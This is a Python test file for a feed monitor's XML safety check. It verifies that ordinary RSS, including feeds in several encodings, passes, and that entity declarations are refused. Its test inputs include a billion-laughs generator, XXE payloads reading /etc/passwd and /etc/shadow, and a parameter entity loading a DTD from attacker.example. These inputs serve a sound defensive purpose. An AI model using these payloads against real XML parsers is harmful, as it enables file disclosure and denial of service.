"""monitor.xmlsafe: entity declarations and external entities refused, ordinary XML let through untouched."""

from __future__ import annotations

import time

import pytest

import monitor.sources.rss  # noqa: F401  (the feed parser the check guards)
from monitor.demo.sedia_server import Reply
from monitor.demo.static_server import StaticServer
from monitor.errors import ParseError
from monitor.http import Fetched
from monitor.sources.rss import parse_feed
from monitor.xmlsafe import PREFIX, check_xml

ITEM = "<item><title>Utlysning för Åmål</title><link>https://example.se/u.1.html</link></item>"
RSS = f'<rss version="2.0"><channel><title>Flöde</title>{ITEM}</channel></rss>'


def laughs(levels: int = 9) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels + 1)
    ]
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [{"".join(entities)}]>'
        f'<rss version="2.0"><channel><title>&lol{levels};</title>{ITEM}</channel></rss>'
    ).encode()


@pytest.mark.parametrize(
    "content",
    [
        RSS.encode(),
        ('<?xml version="1.0" encoding="UTF-8"?>\n' + RSS).encode(),
        ('<?xml version="1.0" encoding="ISO-8859-1"?>\n' + RSS).encode("iso-8859-1"),
        ('<?xml version="1.0" encoding="windows-1252"?>\n' + RSS).encode("cp1252"),
        ('<?xml version="1.0" encoding="UTF-16"?>\n' + RSS).encode("utf-16"),
        b"\xef\xbb\xbf" + ('<?xml version="1.0" encoding="UTF-8"?>' + RSS).encode(),
        # Predefined and numeric entities need no declaration.
        b'<rss version="2.0"><channel><title>A &amp; B &#229; &#x00E4;</title></channel></rss>',
        # A DOCTYPE that only names a DTD (RSS 0.91) declares nothing.
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel/></rss>',
        # Malformed after the root element started: feedparser's business, not ours.
        b'<?xml version="1.0"?><rss><channel><title>A & B &nbsp;</title><br></rss>',
        # The text of a call about XML, with a declaration shown as CDATA in the body.
        b'<rss><channel><description><![CDATA[<!ENTITY x "y">]]></description></channel></rss>',
        # Not XML at all: nothing to refuse here; the feed parser will say it is no feed.
        b"Service Unavailable",
        b"",
    ],
    ids=[
        "plain",
        "utf8-declared",
        "latin1",
        "windows-1252",
        "utf16",
        "utf8-bom",
        "predefined-entities",
        "netscape-doctype",
        "malformed-body",
        "cdata-mention",
        "not-xml",
        "empty",
    ],
)
def test_ordinary_xml_passes(content: bytes) -> None:
    check_xml(content, "https://example.se/rss")


@pytest.mark.parametrize(
    ("content", "named"),
    [
        (laughs(), "'lol0'"),
        (b'<!DOCTYPE r [<!ENTITY a "just one">]><r>&a;</r>', "'a'"),
        (b'<!DOCTYPE r [<!ENTITY a "unused">]><r/>', "'a'"),
        (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
            "/etc/passwd",
        ),
        (
            b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><r/>',
            "http://attacker.example/evil.dtd",
        ),
        (b'<!DOCTYPE r [<!ENTITY pic SYSTEM "pic.gif" NDATA gif>]><r/>', "'pic'"),
        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><r/>'.encode("utf-16"), "'a'"),
        # Junk before the XML declaration stops expat at once: the prolog is searched as bytes.
        (b'  \n<?xml version="1.0"?><!DOCTYPE r [<!ENTITY lol "lol">]><r>&lol;</r>', "'lol'"),
        (
            b'\n<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/shadow">]><r/>',
            "file:///etc/shadow",
        ),
        # An encoding expat does not know, the same.
        (
            '<?xml version="1.0" encoding="Shift_JIS"?><!DOCTYPE r [<!ENTITY a "b">]><r/>'.encode(
                "shift_jis"
            ),
            "'a'",
        ),
    ],
    ids=[
        "billion-laughs",
        "one-entity",
        "unused-entity",
        "external-file",
        "parameter-entity-dtd",
        "unparsed-entity",
        "utf16",
        "junk-before-prolog",
        "junk-before-prolog-external",
        "unknown-encoding",
    ],
)
def test_entity_declarations_are_refused(content: bytes, named: str) -> None:
    with pytest.raises(ParseError) as raised:
        check_xml(content, "https://example.se/rss")
    message = str(raised.value)
    assert message.startswith(f"{PREFIX}: https://example.se/rss: ")
    assert named in message


def test_external_entities_are_named_as_such() -> None:
    with pytest.raises(ParseError, match=r"extern resurs.*XXE"):
        check_xml(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "u")
    with pytest.raises(ParseError, match="billion laughs"):
        check_xml(laughs(2), "u")


def test_billion_laughs_is_refused_at_once() -> None:
    started = time.perf_counter()
    with pytest.raises(ParseError):
        check_xml(laughs(12), "u")
    assert time.perf_counter() - started < 1.0  # nothing was expanded


def test_declarations_hidden_behind_a_large_prolog_comment_are_found() -> None:
    padding = b"<!--" + b"x" * 100_000 + b"-->"
    content = b'<?xml version="1.0"?>' + padding + b'<!DOCTYPE r [<!ENTITY a "b">]><r/>'
    with pytest.raises(ParseError, match="'a'"):
        check_xml(content, "u")


def test_an_external_dtd_is_never_fetched() -> None:
    """A DOCTYPE naming a DTD on a server we can watch: neither the check nor feedparser asks for it."""
    with StaticServer(
        {"/evil.dtd": Reply(200, b'<!ENTITY x "y">', {"Content-Type": "application/xml-dtd"})}
    ) as dtd:
        content = (
            f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{dtd.url("/evil.dtd")}">'
            f'<rss version="2.0"><channel><title>T</title>{ITEM}</channel></rss>'
        ).encode()
        check_xml(content, "u")
        page = parse_feed(Fetched(url="https://example.se/rss", content=content), "f")
        assert [c.title for c in page.calls] == ["Utlysning för Åmål"]
        assert dtd.requests == []
